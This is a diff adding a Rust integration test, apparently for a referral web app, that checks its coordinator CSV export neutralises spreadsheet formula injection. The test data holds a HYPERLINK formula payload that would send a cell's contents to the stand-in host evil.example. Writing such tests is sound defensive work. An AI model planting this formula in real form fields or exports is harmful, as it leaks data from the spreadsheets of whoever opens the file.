@@ -462,3 +462,30 @@ async fn the_server_task_enqueues_the_digest_once() {
         .unwrap();
     assert_eq!(queued, 2);
 }
+
+both!(csv_export_neutralises_formulas, |app: TestApp| async move {
+    let fx = fixture(&app).await;
+    let family = "-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")";
+    let link = accept(&app, &fx.key, &fx.trial, 41).await;
+    let html = app.get(&link).await.text().await.unwrap();
+    let mut f = form(&document_id(&html), &fx.site_a, None);
+    f = with(f, "family_name", family);
+    f = with(f, "signature", &format!("Élodie {family}"));
+    let r = submit(&app, &link, &f).await;
+    assert_eq!(r.status(), 303, "{}", r.text().await.unwrap());
+    let r = app
+        .as_user(Method::GET, "/coordinator/referrals.csv", &fx.coordinator_a)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let text = r.text().await.unwrap();
+    assert!(
+        text.contains(
+            "\"Élodie\",\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&I2;\"\"open\"\")\""
+        ),
+        "{text}"
+    );
+    // The phone number stays as written.
+    assert!(text.contains("\"+33 6 12 34 56 78\""), "{text}");
+});
